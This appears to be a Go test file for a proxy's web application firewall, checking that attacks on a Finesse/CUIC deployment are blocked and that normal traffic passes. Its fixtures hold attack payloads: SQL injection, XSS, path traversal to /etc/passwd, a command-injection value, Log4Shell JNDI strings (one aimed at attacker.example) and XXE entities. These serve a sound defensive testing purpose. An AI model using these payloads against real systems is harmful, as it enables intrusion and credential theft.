package waf

import (
	"bytes"
	"encoding/json"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3/types"

	"github.com/rampart-proxy/rampart/internal/observe/observetest"
	"github.com/rampart-proxy/rampart/internal/reqinfo"
)

func multipartBody(t testing.TB, fields map[string]string) (string, []byte) {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	for k, v := range fields {
		if err := mw.WriteField(k, v); err != nil {
			t.Fatal(err)
		}
	}
	if err := mw.Close(); err != nil {
		t.Fatal(err)
	}
	return mw.FormDataContentType(), b.Bytes()
}

func multipartFile(t testing.TB, name string, content []byte) (string, []byte) {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	fw, err := mw.CreateFormFile("file", name)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = fw.Write(content)
	if err := mw.Close(); err != nil {
		t.Fatal(err)
	}
	return mw.FormDataContentType(), b.Bytes()
}

type attack struct {
	name    string
	method  string
	target  string
	ctype   string
	body    string
	headers map[string]string
	reason  string // "rules" unless given
	ruleID  string // a rule id the security event must name
}

func classicAttacks(t testing.TB) []attack {
	mpType, mpBody := multipartBody(t, map[string]string{"comment": `<script>alert(document.cookie)</script>`})
	return []attack{
		{name: "SQLiInQuery", method: "GET", target: "/cuic/rest/reports?id=1%27%20OR%20%271%27%3D%271", ruleID: "942100"},
		{name: "SQLiUnionInQuery", method: "GET", target: "/cuic/rest/reports?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", ruleID: "942100"},
		{name: "XSSInFormBody", method: "POST", target: "/desktop/feedback", ctype: "application/x-www-form-urlencoded",
			body: "comment=" + url.QueryEscape(`<script>alert(1)</script>`), ruleID: "941100"},
		{name: "PathTraversalInArg", method: "GET", target: "/cuic/rest/export?file=../../etc/passwd", ruleID: "930100"},
		{name: "LFIEtcPasswd", method: "GET", target: "/cuic/rest/export?file=/etc/passwd", ruleID: "930120"},
		{name: "RCESemicolonCat", method: "POST", target: "/cuic/rest/ping", ctype: "application/x-www-form-urlencoded",
			body: "host=" + url.QueryEscape("127.0.0.1;cat /etc/passwd"), ruleID: "932"},
		{name: "Log4ShellInHeader", method: "GET", target: "/finesse/api/User/1001",
			headers: map[string]string{"X-Api-Version": "${jndi:ldap://x}"}, ruleID: "944150"},
		{name: "Log4ShellInUserAgent", method: "GET", target: "/desktop/",
			headers: map[string]string{"User-Agent": "${jndi:ldap://attacker.example/a}"}, ruleID: "944150"},
		{name: "SQLiInJSONBody", method: "POST", target: "/cuic/rest/search", ctype: "application/json",
			body: `{"filter":{"agent":"1001' OR '1'='1"}}`, ruleID: "942100"},
		{name: "XSSInMultipartField", method: "POST", target: "/desktop/upload", ctype: mpType, body: string(mpBody), ruleID: "941"},
		{name: "XXEDoctype", method: "PUT", target: "/finesse/api/User/1001", ctype: "application/xml",
			body: `<?xml version="1.0"?><!DOCTYPE u [<!ENTITY x SYSTEM "file:///etc/passwd">]><User><state>&x;</state></User>`, reason: "xxe"},
		{name: "XXEEntityNoContentType", method: "POST", target: "/finesse/api/Dialog/1", ctype: "text/plain",
			body: "\n  <!entity % x SYSTEM \"http://evil/\"><Dialog/>", reason: "xxe"},
		{name: "XXEDoctypeUTF16", method: "PUT", target: "/finesse/api/User/1001", ctype: "application/xml",
			body: utf16LE(`<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE u SYSTEM "http://evil/x.dtd"><User/>`), reason: "xxe"},
	}
}

func utf16LE(s string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for _, c := range []byte(s) {
		b.WriteByte(c)
		b.WriteByte(0)
	}
	return b.String()
}

func (a attack) request() *http.Request {
	var body io.Reader
	if a.body != "" {
		body = strings.NewReader(a.body)
	}
	r := newRequest(a.method, a.target, a.ctype, body)
	for k, v := range a.headers {
		r.Header.Set(k, v)
	}
	return r
}

func TestWAF_BlocksClassicAttacksAtPL1(t *testing.T) {
	w := mustWAF(t, Config{})
	for _, a := range classicAttacks(t) {
		t.Run(a.name, func(t *testing.T) {
			log := observetest.Security(t)
			up := &upstream{}
			r := a.request()
			rec := serve(w.Handler(up), r)
			assertRefused(t, rec, r, up, http.StatusForbidden)
			reason := a.reason
			if reason == "" {
				reason = "rules"
			}
			ev := log.String()
			if !strings.Contains(ev, `"stage":"waf"`) || !strings.Contains(ev, `"reason":"`+reason+`"`) {
				t.Errorf("security event %s: want stage waf, reason %s", ev, reason)
			}
			if a.ruleID != "" && !strings.Contains(ev, a.ruleID) {
				t.Errorf("security event does not name rule %s: %s", a.ruleID, ev)
			}
			if reason == "rules" && !strings.Contains(ev, `"anomaly_score":`) {
				t.Errorf("security event lacks the anomaly score: %s", ev)
			}
		})
	}
}

func TestWAF_BlocksSQLiInJSONBody(t *testing.T) {
	w := mustWAF(t, Config{})
	for _, body := range []string{
		`{"note":"1' OR '1'='1"}`,
		`{"items":[{"id":"1; DROP TABLE users--"}]}`,
		`{"q":{"nested":{"deep":"' UNION SELECT password FROM users --"}}}`,
	} {
		up := &upstream{}
		r := newRequest("POST", "/finesse/api/User/1001/notes", "application/json; charset=utf-8", strings.NewReader(body))
		assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusForbidden)
	}
}

func TestWAF_BlocksXXE(t *testing.T) {
	w := mustWAF(t, Config{})
	for _, body := range []string{
		`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><User>&xxe;</User>`,
		"  \r\n<!doctype User><User/>",
		`<User><!-- a comment --><! ENTITY x "y"></User>`,
	} {
		up := &upstream{}
		r := newRequest("PUT", "/finesse/api/User/1001", "application/xml", strings.NewReader(body))
		assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusForbidden)
	}
}

func TestXXE_Detection(t *testing.T) {
	cases := []struct {
		name, ctype, body string
		want              bool
	}{
		{"XMLDoctype", "application/xml", `<?xml version="1.0"?><!DOCTYPE x><x/>`, true},
		{"SOAPEntity", "application/soap+xml", `<s:Envelope><!ENTITY a "b"></s:Envelope>`, true},
		{"LowercaseSpaced", "text/xml", "<x><!  doctype x></x>", true},
		{"SniffedWithoutType", "", "\ufeff \n<!DOCTYPE x><x/>", true},
		{"UTF16BE", "application/xml", "\xfe\xff\x00<\x00!\x00D\x00O\x00C\x00T\x00Y\x00P\x00E\x00 \x00x\x00>", true},
		{"PlainXML", "application/xml", `<User><state>READY</state></User>`, false},
		{"CommentAndCDATA", "application/xml", `<x><!-- DOCTYPE in a comment is text --><![CDATA[<b>]]></x>`, false},
		{"JSONMentioningDoctype", "application/json", `{"note":"<!DOCTYPE html>"}`, false},
		{"FormMentioningDoctype", "application/x-www-form-urlencoded", `note=%3C!DOCTYPE+html%3E`, false},
	}
	for _, c := range cases {
		got := isXML(c.ctype, []byte(c.body)) && declaresDTD([]byte(c.body))
		if got != c.want {
			t.Errorf("%s: xxe %v, want %v", c.name, got, c.want)
		}
	}
}

// finesseTraffic is ordinary traffic of the reference deployment: the
// Finesse agent desktop's REST calls, IdS token exchange, CUIC reports and
// browser page loads.
type normalRequest struct {
	name    string
	method  string
	target  string
	ctype   string
	body    string
	headers map[string]string
}

func normalTraffic(t testing.TB) []normalRequest {
	mpType, mpBody := multipartBody(t, map[string]string{"description": "Monthly agent report", "folder": "Shared/Reports"})
	browser := map[string]string{
		"Cookie":                    "JSESSIONID=8F3A1C2B9D7E6F5A4B3C2D1E0F9A8B7C; _ga=GA1.2.1234567890.1700000000; locale=en_US",
		"Referer":                   "https://finesse.example.com/desktop/container/?locale=en_US",
		"sec-ch-ua":                 `"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"`,
		"sec-ch-ua-mobile":          "?0",
		"sec-ch-ua-platform":        `"Windows"`,
		"Sec-Fetch-Dest":            "document",
		"Sec-Fetch-Mode":            "navigate",
		"Sec-Fetch-Site":            "same-origin",
		"Upgrade-Insecure-Requests": "1",
	}
	api := map[string]string{
		"Authorization":    "Basic MTAwMTpBZ2VudFBhc3N3b3JkMSE=",
		"Accept":           "application/xml, text/xml, */*; q=0.01",
		"X-Requested-With": "XMLHttpRequest",
		"Cookie":           "JSESSIONID=8F3A1C2B9D7E6F5A4B3C2D1E0F9A8B7C",
		"Origin":           "https://finesse.example.com",
	}
	bearer := map[string]string{
		"Authorization": "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMDAxIiwiZXhwIjoxNzAwMDAwMDAwfQ.c2lnbmF0dXJlLXBhcnQ",
		"Accept":        "application/json",
	}
	return []normalRequest{
		{name: "DesktopPage", method: "GET", target: "/desktop/container/?locale=en_US", headers: browser},
		{name: "StaticScript", method: "GET", target: "/desktop/assets/js/finesse.js?v=12.6.2.10000-1", headers: browser},
		{name: "GetUser", method: "GET", target: "/finesse/api/User/1001", headers: api},
		{name: "GetDialogs", method: "GET", target: "/finesse/api/User/1001/Dialogs", headers: api},
		{name: "GetReasonCodes", method: "GET", target: "/finesse/api/User/1001/ReasonCodes?category=NOT_READY", headers: api},
		{name: "PutUserReady", method: "PUT", target: "/finesse/api/User/1001", ctype: "application/xml",
			body: `<User><state>READY</state></User>`, headers: api},
		{name: "PutUserNotReady", method: "PUT", target: "/finesse/api/User/1001", ctype: "application/xml",
			body: `<User><state>NOT_READY</state><reasonCodeId>22</reasonCodeId></User>`, headers: api},
		{name: "PutUserLogin", method: "PUT", target: "/finesse/api/User/1001", ctype: "application/xml",
			body: `<User><state>LOGIN</state><extension>1001001</extension></User>`, headers: api},
		{name: "AnswerCall", method: "PUT", target: "/finesse/api/Dialog/16817733", ctype: "application/xml",
			body: `<Dialog><requestedAction>ANSWER</requestedAction><targetMediaAddress>1001001</targetMediaAddress></Dialog>`, headers: api},
		{name: "MakeCall", method: "POST", target: "/finesse/api/User/1001/Dialogs", ctype: "application/xml",
			body: `<?xml version="1.0" encoding="UTF-8"?><Dialog><requestedAction>MAKE_CALL</requestedAction><fromAddress>1001001</fromAddress><toAddress>+14155550123</toAddress></Dialog>`, headers: api},
		{name: "UpdateCallData", method: "PUT", target: "/finesse/api/Dialog/16817733", ctype: "application/xml",
			body: `<Dialog><requestedAction>UPDATE_CALL_DATA</requestedAction><mediaProperties><wrapUpReason>Billing question</wrapUpReason><callvariables><CallVariable><name>callVariable1</name><value>Customer VIP - account 77812</value></CallVariable></callvariables></mediaProperties></Dialog>`, headers: api},
		{name: "DeletePhoneBookEntry", method: "DELETE", target: "/finesse/api/PhoneBook/3/Contact/17", headers: api},
		{name: "PatchTeamMessage", method: "PATCH", target: "/finesse/api/TeamMessage/5", ctype: "application/json",
			body: `{"expiry":3600,"content":"Team meeting at 3pm in room B"}`, headers: bearer},
		{name: "SystemInfo", method: "GET", target: "/finesse/api/SystemInfo?nocache=1700000000123", headers: api},
		{name: "CORSPreflight", method: "OPTIONS", target: "/finesse/api/User/1001", headers: map[string]string{
			"Origin": "https://finesse.example.com", "Access-Control-Request-Method": "PUT",
			"Access-Control-Request-Headers": "authorization,content-type"}},
		{name: "FormLogin", method: "POST", target: "/desktop/j_security_check", ctype: "application/x-www-form-urlencoded",
			body: "j_username=agent1001&j_password=" + url.QueryEscape("S3cure!Pass#2024") + "&locale=en_US", headers: browser},
		{name: "IdSTokenExchange", method: "POST", target: "/ids/v1/oauth/token", ctype: "application/x-www-form-urlencoded",
			body: "grant_type=authorization_code&code=f3b1c2d4e5a6&client_id=finesse&redirect_uri=" +
				url.QueryEscape("https://finesse.example.com/desktop/sso/authcode"), headers: bearer},
		{name: "IdSAuthorize", method: "GET", target: "/ids/v1/oauth/authorize?response_type=code&client_id=cuic&redirect_uri=https%3A%2F%2Fcuic.example.com%2Fcuicui%2Fsso%2Fauthcode&state=abc123", headers: browser},
		{name: "CUICReportJSON", method: "POST", target: "/cuic/rest/reports/run", ctype: "application/json",
			body: `{"reportId":"5A7B3C9D1E","filters":[{"field":"agent","op":"equals","value":"1001"},{"field":"interval","op":"between","value":["2024-05-01T00:00:00Z","2024-05-31T23:59:59Z"]}],"pageSize":100}`, headers: bearer},
		{name: "CUICSearch", method: "GET", target: "/cuic/rest/search?q=agent+state+trace&sort=name&order=asc", headers: bearer},
		{name: "CUICUpload", method: "POST", target: "/cuic/rest/import", ctype: mpType, body: string(mpBody), headers: bearer},
		{name: "AgentNoteJSON", method: "PUT", target: "/finesse/api/User/1001/notes", ctype: "application/json",
			body: `{"note":"Customer asked about time of delivery; call back tomorrow at 5","tags":["billing","follow-up"]}`, headers: bearer},
		{name: "AgentNoteForm", method: "POST", target: "/finesse/api/User/1001/notes", ctype: "application/x-www-form-urlencoded",
			body: "note=" + url.QueryEscape("Customer's order arrived damaged, sent replacement. Call back Monday at 10am."), headers: browser},
		{name: "JSONNullsAndNumbers", method: "PUT", target: "/finesse/api/User/1001/state", ctype: "application/json",
			body: `{"state":"READY","reasonCodeId":null,"pending":false,"ts":1700000000123}`, headers: bearer},
	}
}

func TestWAF_NormalTrafficPassesAtPL1(t *testing.T) {
	w := mustWAF(t, Config{})
	log := observetest.Security(t)
	for _, n := range normalTraffic(t) {
		t.Run(n.name, func(t *testing.T) {
			up := &upstream{}
			var body io.Reader
			if n.body != "" {
				body = strings.NewReader(n.body)
			}
			r := newRequest(n.method, n.target, n.ctype, body)
			for k, v := range n.headers {
				r.Header.Set(k, v)
			}
			rec := serve(w.Handler(up), r)
			if rec.Code != http.StatusOK || up.count.Load() != 1 {
				t.Fatalf("status %d, upstream reached %d times; security log: %s", rec.Code, up.count.Load(), log.String())
			}
			if got := string(up.lastBody()); got != n.body {
				t.Errorf("upstream got body %q, want %q", got, n.body)
			}
		})
	}
	if s := log.String(); s != "" {
		t.Errorf("normal traffic produced security events: %s", s)
	}
}

func TestWAF_MethodsAllowedByRouterPass(t *testing.T) {
	w := mustWAF(t, Config{})
	for _, m := range []string{"PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "PROPFIND"} {
		up := &upstream{}
		var body io.Reader
		ctype := ""
		if m == "PUT" || m == "PATCH" {
			body, ctype = strings.NewReader(`<User><state>READY</state></User>`), "application/xml"
		}
		r := newRequest(m, "/finesse/api/User/1001", ctype, body)
		if rec := serve(w.Handler(up), r); rec.Code != http.StatusOK || up.count.Load() != 1 {
			t.Errorf("%s: status %d, upstream %d", m, rec.Code, up.count.Load())
		}
	}
}

func TestWAF_DetectModeForwardsAndLogs(t *testing.T) {
	w := mustWAF(t, Config{Mode: ModeDetect})
	before := counterValue(t, countDetect)
	for _, a := range classicAttacks(t) {
		t.Run(a.name, func(t *testing.T) {
			log := observetest.Security(t)
			up := &upstream{}
			rec := serve(w.Handler(up), a.request())
			if rec.Code != http.StatusOK || up.count.Load() != 1 {
				t.Fatalf("status %d, upstream %d: detect mode must forward", rec.Code, up.count.Load())
			}
			ev := log.String()
			if !strings.Contains(ev, `"reason":"detect"`) {
				t.Errorf("no detect event: %q", ev)
			}
			if a.ruleID != "" && !strings.Contains(ev, a.ruleID) {
				t.Errorf("detect event does not name rule %s: %s", a.ruleID, ev)
			}
			if got := string(up.lastBody()); got != a.body {
				t.Errorf("upstream body %q, want %q", got, a.body)
			}
		})
	}
	if after := counterValue(t, countDetect); after-before != float64(len(classicAttacks(t))) {
		t.Errorf("detect counter grew by %v, want %d", after-before, len(classicAttacks(t)))
	}
	// Clean traffic in detect mode logs nothing.
	log := observetest.Security(t)
	up := &upstream{}
	serve(w.Handler(up), newRequest("GET", "/finesse/api/User/1001", "", nil))
	if log.String() != "" {
		t.Errorf("clean request logged: %s", log.String())
	}
}

func TestWAF_OffModeForwardsUninspected(t *testing.T) {
	w := mustWAF(t, Config{Mode: ModeOff})
	up := &upstream{}
	if h := w.Handler(up); h != http.Handler(up) {
		t.Error("mode off must return next unchanged")
	}
	for _, a := range classicAttacks(t) {
		if rec := serve(w.Handler(up), a.request()); rec.Code != http.StatusOK {
			t.Errorf("%s: status %d in mode off", a.name, rec.Code)
		}
	}
	if int(up.count.Load()) != len(classicAttacks(t)) {
		t.Errorf("upstream reached %d times", up.count.Load())
	}
}

func TestWAF_BodyOverLimitRejected(t *testing.T) {
	w := mustWAF(t, Config{BodyLimit: 1024})
	before := counterValue(t, countBodyTooLarge)
	big := strings.Repeat("a", 1025)

	// Declared length over the limit.
	up := &upstream{}
	r := newRequest("POST", "/cuic/rest/import", "application/x-www-form-urlencoded", strings.NewReader("x="+big))
	assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusRequestEntityTooLarge)

	// Unknown length (chunked): found while reading.
	r = newRequest("POST", "/cuic/rest/import", "application/x-www-form-urlencoded", io.MultiReader(strings.NewReader("x="), strings.NewReader(big)))
	r.ContentLength = -1
	assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusRequestEntityTooLarge)

	// Exactly the limit passes.
	r = newRequest("POST", "/cuic/rest/import", "application/x-www-form-urlencoded", strings.NewReader("x="+big[:1022]))
	if rec := serve(w.Handler(up), r); rec.Code != http.StatusOK {
		t.Errorf("body of exactly body_limit: status %d", rec.Code)
	}
	if got := counterValue(t, countBodyTooLarge) - before; got != 2 {
		t.Errorf("body-too-large counter grew by %v, want 2", got)
	}
}

func TestWAF_PartialModeForwardsWholeBody(t *testing.T) {
	w := mustWAF(t, Config{BodyLimit: 1024, OverLimit: OverLimitPartial})
	// Over the limit: the first 1 KiB is inspected, everything is forwarded.
	body := "a=" + strings.Repeat("b", 1500) + "&c=" + url.QueryEscape("1' OR '1'='1")
	up := &upstream{}
	r := newRequest("POST", "/cuic/rest/import", "application/x-www-form-urlencoded", strings.NewReader(body))
	rec := serve(w.Handler(up), r)
	if rec.Code != http.StatusOK || string(up.lastBody()) != body || up.cl != int64(len(body)) {
		t.Fatalf("status %d; upstream got %d bytes (content length %d), want %d", rec.Code, len(up.lastBody()), up.cl, len(body))
	}
	// An attack inside the inspected part is still refused.
	body = "c=" + url.QueryEscape("1' OR '1'='1") + "&a=" + strings.Repeat("b", 1500)
	up = &upstream{}
	r = newRequest("POST", "/cuic/rest/import", "application/x-www-form-urlencoded", strings.NewReader(body))
	assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusForbidden)
}

func TestWAF_BodyReachesUpstreamByteIdentical(t *testing.T) {
	w := mustWAF(t, Config{})
	jsonBody, _ := json.Marshal(map[string]any{"note": "ünïcödé ✓ \u00a0 tabs\tand\nnewlines", "n": 1.5e3})
	mpType, mpBody := multipartBody(t, map[string]string{"a": "first", "b": strings.Repeat("x", 70000)})
	bin := make([]byte, 4096)
	for i := range bin {
		bin[i] = byte(i * 7)
	}
	binType, binBody := multipartFile(t, "recording.bin", bin)
	for _, c := range []struct{ name, ctype, body string }{
		{"JSON", "application/json", string(jsonBody)},
		{"XML", "application/xml", "<User>\r\n  <state>READY</state>\r\n</User>\r\n"},
		{"Form", "application/x-www-form-urlencoded", "a=1&b=%C3%BC&c=+spaces+"},
		{"Multipart", mpType, string(mpBody)},
		{"BinaryUpload", binType, string(binBody)},
	} {
		t.Run(c.name, func(t *testing.T) {
			up := &upstream{}
			r := newRequest("PUT", "/finesse/api/User/1001", c.ctype, strings.NewReader(c.body))
			cl := r.ContentLength
			rec := serve(w.Handler(up), r)
			if rec.Code != http.StatusOK {
				t.Fatalf("status %d", rec.Code)
			}
			if !bytes.Equal(up.lastBody(), []byte(c.body)) {
				t.Errorf("upstream body differs: got %d bytes, want %d", len(up.lastBody()), len(c.body))
			}
			if up.cl != cl {
				t.Errorf("content length %d, want %d", up.cl, cl)
			}
		})
	}
}

func TestWAF_RouteScopedExclusion(t *testing.T) {
	w := mustWAF(t, Config{Exclusions: []Exclusion{
		{Rules: []int{942100}, Routes: []string{"/finesse/api/"}, Fields: []string{"ARGS:note", "ARGS_POST:note"}},
	}})
	sqli := url.QueryEscape("1' OR '1'='1")
	cases := []struct {
		target, body string
		want         int
	}{
		{"/finesse/api/User/1001/notes", "note=" + sqli, http.StatusOK},
		{"/finesse/api/User/1001/notes", "comment=" + sqli, http.StatusForbidden},
		{"/cuic/rest/notes", "note=" + sqli, http.StatusForbidden},
		{"/finesse/api/../../cuic/rest/notes", "note=" + sqli, http.StatusForbidden},
	}
	for _, c := range cases {
		up := &upstream{}
		r := newRequest("POST", c.target, "application/x-www-form-urlencoded", strings.NewReader(c.body))
		if rec := serve(w.Handler(up), r); rec.Code != c.want {
			t.Errorf("%s %s: status %d, want %d", c.target, c.body, rec.Code, c.want)
		}
	}
}

func TestWAF_GlobalExclusions(t *testing.T) {
	sqli := url.QueryEscape("1' OR '1'='1")
	// Field-scoped, every route.
	w := mustWAF(t, Config{Exclusions: []Exclusion{{Rules: []int{942100}, Fields: []string{"ARGS:note"}}}})
	for _, c := range []struct {
		body string
		want int
	}{{"note=" + sqli, 200}, {"other=" + sqli, 403}} {
		up := &upstream{}
		r := newRequest("POST", "/any/where", "application/x-www-form-urlencoded", strings.NewReader(c.body))
		if rec := serve(w.Handler(up), r); rec.Code != c.want {
			t.Errorf("field exclusion, %s: status %d, want %d", c.body, rec.Code, c.want)
		}
	}
	// Rule removed whole.
	w = mustWAF(t, Config{Exclusions: []Exclusion{{Rules: []int{942100}}}})
	up := &upstream{}
	r := newRequest("POST", "/any/where", "application/x-www-form-urlencoded", strings.NewReader("other="+sqli))
	if rec := serve(w.Handler(up), r); rec.Code != 200 {
		t.Errorf("rule removed: status %d, want 200", rec.Code)
	}
}

func TestWAF_MasksSecretsInSecurityEvents(t *testing.T) {
	w := mustWAF(t, Config{})
	cases := []struct {
		name   string
		r      func() *http.Request
		secret string
	}{
		{"PasswordField", func() *http.Request {
			return newRequest("POST", "/desktop/j_security_check", "application/x-www-form-urlencoded",
				strings.NewReader("j_username=a&j_password="+url.QueryEscape("' OR 1=1 -- hunter2secret")))
		}, "hunter2secret"},
		{"AuthorizationHeader", func() *http.Request {
			r := newRequest("GET", "/finesse/api/User/1001", "", nil)
			r.Header.Set("Authorization", "Bearer ${jndi:ldap://x/sekr1tbearer}")
			return r
		}, "sekr1tbearer"},
		{"Cookie", func() *http.Request {
			r := newRequest("GET", "/desktop/", "", nil)
			r.Header.Set("Cookie", "session=<script>alert('c00kiesecret')</script>")
			return r
		}, "c00kiesecret"},
		{"TokenInJSON", func() *http.Request {
			return newRequest("POST", "/ids/v1/x", "application/json",
				strings.NewReader(`{"refresh_token":"<script>alert('t0kenvalue')</script>"}`))
		}, "t0kenvalue"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			log := observetest.Security(t)
			up := &upstream{}
			r := c.r()
			assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusForbidden)
			ev := log.String()
			if strings.Contains(ev, c.secret) {
				t.Errorf("security event leaks %q: %s", c.secret, ev)
			}
			if !strings.Contains(ev, masked) {
				t.Errorf("security event shows no masked value: %s", ev)
			}
		})
	}
}

func TestWAF_MatchedDataTruncated(t *testing.T) {
	w := mustWAF(t, Config{})
	log := observetest.Security(t)
	up := &upstream{}
	long := "1' OR '1'='1 " + strings.Repeat("z", 500)
	r := newRequest("POST", "/x", "application/x-www-form-urlencoded", strings.NewReader("q="+url.QueryEscape(long)))
	assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusForbidden)
	if ev := log.String(); strings.Contains(ev, strings.Repeat("z", 120)) {
		t.Errorf("matched data not truncated: %s", ev)
	}
}

func TestWAF_RulesFile(t *testing.T) {
	dir := t.TempDir()
	rules := `SecRule REQUEST_HEADERS:X-Forbidden "@streq yes" "id:10001,phase:1,deny,status:403,log,msg:'custom rule'"` + "\n"
	if err := writeFile(dir+"/extra.conf", rules); err != nil {
		t.Fatal(err)
	}
	set := NewSet()
	log := observetest.Security(t)
	w, err := set.Get(Config{RulesFile: "extra.conf"}, dir)
	if err != nil {
		t.Fatal(err)
	}
	up := &upstream{}
	r := newRequest("GET", "/x", "", nil)
	r.Header.Set("X-Forbidden", "yes")
	assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusForbidden)
	// CRS tuning variables set in the rules_file take effect (they are
	// placed before the CRS rules), and rule removals too (placed after).
	if err := writeFile(dir+"/tuning.conf", `SecAction "id:10002,phase:1,pass,nolog,\
    setvar:'tx.allowed_request_content_type=|application/json| |application/octet-stream|'"
SecRuleRemoveById 942100
`); err != nil {
		t.Fatal(err)
	}
	w, err = set.Get(Config{RulesFile: "tuning.conf"}, dir)
	if err != nil {
		t.Fatal(err)
	}
	r = newRequest("POST", "/x?id=1%27%20OR%20%271%27%3D%271", "application/octet-stream", strings.NewReader("opaque payload"))
	if rec := serve(w.Handler(up), r); rec.Code != http.StatusOK {
		t.Errorf("tuned rules_file: status %d, want 200: %s", rec.Code, log.String())
	}
	up = &upstream{}
	r = newRequest("POST", "/x", "text/plain", strings.NewReader("hello"))
	assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusForbidden)

	// A rules_file cannot switch the engine off: the mode is applied last.
	if err := writeFile(dir+"/off.conf", "SecRuleEngine Off\n"); err != nil {
		t.Fatal(err)
	}
	w, err = set.Get(Config{RulesFile: "off.conf"}, dir)
	if err != nil {
		t.Fatal(err)
	}
	r = newRequest("GET", "/x?id=1%27%20OR%20%271%27%3D%271", "", nil)
	assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusForbidden)
	// A missing file is a load error.
	if _, err := set.Get(Config{RulesFile: "missing.conf"}, dir); err == nil {
		t.Error("missing rules_file: no error")
	}
	// A broken file is a load error.
	_ = writeFile(dir+"/bad.conf", "SecRule NOPE\n")
	if _, err := set.Get(Config{RulesFile: "bad.conf"}, dir); err == nil {
		t.Error("invalid rules_file: no error")
	}
}

func TestWAF_Metrics(t *testing.T) {
	w := mustWAF(t, Config{})
	pass, block := counterValue(t, countPass), counterValue(t, countBlock)
	up := &upstream{}
	serve(w.Handler(up), newRequest("GET", "/finesse/api/User/1001", "", nil))
	serve(w.Handler(up), newRequest("GET", "/x?file=../../etc/passwd", "", nil))
	if d := counterValue(t, countPass) - pass; d != 1 {
		t.Errorf("pass counter +%v, want +1", d)
	}
	if d := counterValue(t, countBlock) - block; d != 1 {
		t.Errorf("block counter +%v, want +1", d)
	}
}

func TestWAF_UsesRequestIDAsTransactionID(t *testing.T) {
	var seen string
	w, err := build(Defaults(), "", buildOptions{onMatch: func(mr types.MatchedRule) { seen = mr.TransactionID() }})
	if err != nil {
		t.Fatal(err)
	}
	up := &upstream{}
	r := newRequest("GET", "/x?file=../../etc/passwd", "", nil)
	serve(w.Handler(up), r)
	if want := reqinfo.Of(r).ID; seen != want {
		t.Errorf("transaction id %q, want the request id %q", seen, want)
	}
}

func TestWAF_SlowBodyDoesNotHang(t *testing.T) {
	w := mustWAF(t, Config{})
	up := &upstream{}
	pr, pw := io.Pipe()
	go func() {
		_, _ = pw.Write([]byte("a=1"))
		time.Sleep(10 * time.Millisecond)
		_ = pw.CloseWithError(io.ErrUnexpectedEOF)
	}()
	r := newRequest("POST", "/x", "application/x-www-form-urlencoded", pr)
	r.ContentLength = -1
	rec := serve(w.Handler(up), r)
	if rec.Code != http.StatusBadRequest || up.count.Load() != 0 {
		t.Errorf("broken body: status %d, upstream %d; want 400 and no upstream", rec.Code, up.count.Load())
	}
}

func writeFile(path, content string) error { return os.WriteFile(path, []byte(content), 0o600) }
